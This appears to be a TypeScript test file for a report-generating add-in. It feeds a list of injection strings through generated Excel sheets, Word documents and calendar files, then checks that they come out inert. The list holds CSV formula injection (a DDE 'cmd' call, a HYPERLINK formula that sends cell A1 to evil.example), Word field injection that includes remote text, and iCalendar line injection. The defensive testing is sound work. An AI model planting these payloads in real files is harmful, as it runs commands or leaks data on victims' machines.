/**
 * What people type into ledgers is text in everything that is written: the list of OWASP's “CSV Injection” page, and its kin for Word and calendars,
 * as units, leads, projects, enterprises, activities and aliases, through every sheet, document, chart and calendar.
 */
import { strFromU8, unzipSync } from "fflate";
import { read, utils } from "@e965/xlsx";
import { draftsOf, madeDrafts } from "../../addin/drafts/draftFiles.js";
import { drawSheets } from "../../addin/file/write/drawSheets.js";
import {
  assess,
  dayOf,
  GridBuilder,
  readFacts,
  reportPlans,
  type CellValue,
  type Day,
  type TableKey,
} from "../../engine/index.js";
import { dateCell, ledger, plan, type Row } from "../engine/tables/workbook.js";

const hostile = [
  "=1+2",
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1+2",
  "-2+3",
  "@SUM(1+1)",
  "\t=1+2",
  "\r=1+2",
  "＝1+2",
  "＋1+2",
  "－1+2",
  "＠SUM(1+1)",
  '";=1+2;"',
  "<c><f>1+2</f></c>",
  "]]><f>1</f>",
  "{ HYPERLINK http://evil.example }",
  'INCLUDETEXT "http://evil.example"',
  "名\r\nATTENDEE:mailto:a@evil.example",
  "名\\nBEGIN:VALARM",
  "'=1+2",
];

const asOf = dayOf(2024, 8, 14) as Day;

function grid() {
  const builder = new GridBuilder();
  const add = (key: TableKey, rows: readonly Row[]) => builder.rows(`${key}表`, ledger(key, rows));
  const each = (row: (text: string, index: number) => Record<string, CellValue>) => hostile.map(row);
  add(
    "quotas",
    each((unit) => ({ unit, leaders: unit, quota: "引进1个先进陶瓷项目", visits: 2 })),
  );
  add(
    "leads",
    each((text, index) => ({ day: dateCell(3, 1 + index), unit: text, text, valid: index % 2 === 0 ? "是" : "待核" })),
  );
  add(
    "visits",
    each((text) => ({ day: dateCell(4, 1), unit: text, leader: text, enterprise: text, visitedPlace: text })),
  );
  add(
    "projects",
    each((text) => ({
      name: text,
      category: "先进陶瓷",
      attractedBy: text,
      servicedBy: text,
      investment: 12000,
      review: "通过",
      signed: dateCell(4, 1),
      park: text,
      leader: text,
    })),
  );
  add(
    "activities",
    each((text, index) => ({ number: index + 1, time: "9月", name: text, venue: text, responsible: text })),
  );
  add(
    "measures",
    each((text) => ({ day: dateCell(5, 6), unit: text, kind: "提醒谈话", cause: text })),
  );
  add(
    "tasks",
    each((text) => ({ unit: text, due: dateCell(6, 1), title: text })),
  );
  return builder.build();
}

const workbook = grid();
const assessment = assess(readFacts(workbook, plan), { asOf });

test("the hostile texts are in: units, projects and leads", () => {
  // Five are one of the others in another width or behind white space.
  expect(assessment.units.length).toBe(hostile.length - 5);
  expect(assessment.facts.projects.length).toBe(hostile.length - 5);
});

test("sheets: no formula but none, text marked as text where a program would calculate it, links to sheets only", async () => {
  const { bytes } = await drawSheets(undefined, reportPlans(assessment, { onlySummary: false, perUnit: true }));
  const parts = unzipSync(bytes);
  const formats = strFromU8(parts["xl/styles.xml"] as Uint8Array);
  const cellFormats = [...(/<cellXfs.*?<\/cellXfs>/s.exec(formats)?.[0].matchAll(/<xf [^>]*>/g) ?? [])].map(
    ([xf]) => xf,
  );
  const { Sheets, SheetNames } = read(bytes, { cellFormula: true, cellHTML: false });
  const texts = new Set<string>();
  for (const name of SheetNames) {
    for (const [at, cell] of Object.entries(Sheets[name] as Record<string, { f?: string; v?: unknown }>)) {
      if (at.startsWith("!")) continue;
      expect([name, at, cell.f]).toEqual([name, at, undefined]);
      if (typeof cell.v === "string") texts.add(cell.v);
    }
    expect(utils.decode_range((Sheets[name] as { "!ref": string })["!ref"]).e.c).toBeLessThan(60);
  }
  for (const text of ["=1+2", "+1+2", "-2+3", "@SUM(1+1)"]) expect([text, texts.has(text)]).toEqual([text, true]);
  for (const [name, part] of Object.entries(parts)) {
    const xml = strFromU8(part);
    if (/worksheets\/sheet\d+\.xml$/.test(name)) {
      // Our sheets hold values alone: a text that Excel would calculate after F2 and Enter has the mark of a text.
      for (const [, attributes = "", inside = ""] of xml.matchAll(/<c ([^>]*[^/])>(.*?)<\/c>/gs)) {
        const text = /<t[^>]*>(.*?)<\/t>/s.exec(inside)?.[1] ?? "";
        if (!/^\s*[=+\-@＝＋－＠]/.test(text)) continue;
        const format = cellFormats[Number(/ s="(\d+)"/.exec(` ${attributes}`)?.[1] ?? 0)] ?? "";
        if (/^[\d.,%+\-\s]+$/.test(text)) continue;
        expect([text, format.includes('quotePrefix="1"')]).toEqual([text, true]);
      }
    }
    if (/charts\/chart\d+\.xml$/.test(name))
      for (const [, reference = ""] of xml.matchAll(/<c:f>(.*?)<\/c:f>/gs))
        expect(reference).toMatch(/^'?考核[^!]*'?!\$[A-Z]+\$\d+(:\$[A-Z]+\$\d+)?$/);
    if (name.endsWith(".rels")) expect(xml).not.toContain('TargetMode="External"');
    expect([name, /evil\.example/.test(xml) && /<hyperlink [^>]*evil/.test(xml)]).toEqual([name, false]);
  }
});

test("documents: no field but the page's number; calendars: no line that a text begins", async () => {
  const files = await madeDrafts(draftsOf(assessment, workbook));
  expect(files.filter(({ name }) => name.endsWith(".docx")).length).toBeGreaterThan(3);
  expect(new Set(files.map(({ name }) => name)).size).toBe(files.length);
  for (const { name, bytes } of files) {
    expect(name).not.toMatch(/[\\/:*?"<>|\r\n\t]|^[=+\-@]/);
    if (name.endsWith(".ics")) {
      const lines = strFromU8(bytes)
        .replace(/\r\n[ \t]/g, "")
        .split(/\r\n|\n|\r/);
      expect(lines.filter((line) => /^(ATTENDEE|BEGIN:VALARM)/.test(line))).toEqual([]);
      expect(lines.filter((line) => line.startsWith("SUMMARY:")).length).toBe(hostile.length);
    }
    if (!name.endsWith(".docx")) continue;
    for (const [part, content] of Object.entries(unzipSync(bytes))) {
      if (!/\.(xml|rels)$/.test(part)) continue;
      const xml = strFromU8(content);
      const fields = [...xml.matchAll(/<w:instrText[^>]*>(.*?)<\/w:instrText>/gs)].map(([, field]) => field?.trim());
      expect(fields.filter((field) => !/^(PAGE|NUMPAGES)$/.test(field ?? ""))).toEqual([]);
      expect(xml).not.toMatch(/<w:fldSimple|TargetMode="External"/);
    }
  }
});
